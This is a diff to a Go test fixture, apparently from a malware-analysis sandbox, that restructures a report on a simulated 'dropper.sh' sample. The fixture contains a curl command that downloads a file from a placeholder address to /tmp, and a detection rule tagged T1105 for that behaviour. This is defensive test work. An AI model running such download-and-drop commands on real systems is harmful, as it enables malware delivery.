@@ -67,14 +67,15 @@ func TestUpSandboxRunReachesFleet(t *testing.T) {
 		t.Fatal(err)
 	}
 	rep := sandbox.Report{RunID: runID, Sample: "dropper.sh", Started: start, Verdict: "malicious", Score: 8.5,
-		Tree: []*sandbox.Node{{PID: 4000, PPID: 3999, Time: start, Path: "/bin/sh", Cmdline: "sh /tmp/sample", Key: keys[4000],
-			Children: []*sandbox.Node{{PID: 4001, PPID: 4000, Time: start.Add(time.Second), Path: "/usr/bin/curl",
-				Cmdline: "curl -o /tmp/x http://198.18.0.1/x", Techniques: []string{"T1105"}, Key: keys[4001]}}}},
-		Files: []sandbox.FileActivity{{Path: "/tmp/x", Actions: []string{"write"}, Process: "/usr/bin/curl", SHA256: strings.Repeat("c", 64), Size: 3}},
-		Network: []sandbox.Destination{{SandboxDestination: telemetry.SandboxDestination{Kind: "connect", Dest: "198.18.0.1:80",
-			Process: "/usr/bin/curl"}}},
-		Rules: []sandbox.RuleFired{{ID: "r1", Title: "Download with curl to tmp", Source: "builtin", Author: "Quarry",
-			Severity: "high", Description: "Curl writes a file to /tmp", Recommendations: "Block 198.18.0.1", Techniques: []string{"T1105"}, Hits: 1}},
+		SandboxReport: telemetry.SandboxReport{
+			Tree: []*sandbox.Node{{PID: 4000, PPID: 3999, Time: start, Path: "/bin/sh", Cmdline: "sh /tmp/sample", Key: keys[4000],
+				Children: []*sandbox.Node{{PID: 4001, PPID: 4000, Time: start.Add(time.Second), Path: "/usr/bin/curl",
+					Cmdline: "curl -o /tmp/x http://198.18.0.1/x", Techniques: []string{"T1105"}, Key: keys[4001]}}}},
+			Files:   []sandbox.FileActivity{{Path: "/tmp/x", Actions: []string{"write"}, Process: "/usr/bin/curl", SHA256: strings.Repeat("c", 64), Size: 3}},
+			Network: []sandbox.Destination{{Kind: "connect", Dest: "198.18.0.1:80", Process: "/usr/bin/curl"}},
+			Rules: []sandbox.RuleFired{{ID: "r1", Title: "Download with curl to tmp", Source: "builtin", Author: "Quarry",
+				Severity: "high", Description: "Curl writes a file to /tmp", Recommendations: "Block 198.18.0.1", Techniques: []string{"T1105"}, Hits: 1}},
+		},
 	}
 	report, err := json.Marshal(rep)
 	if err != nil {
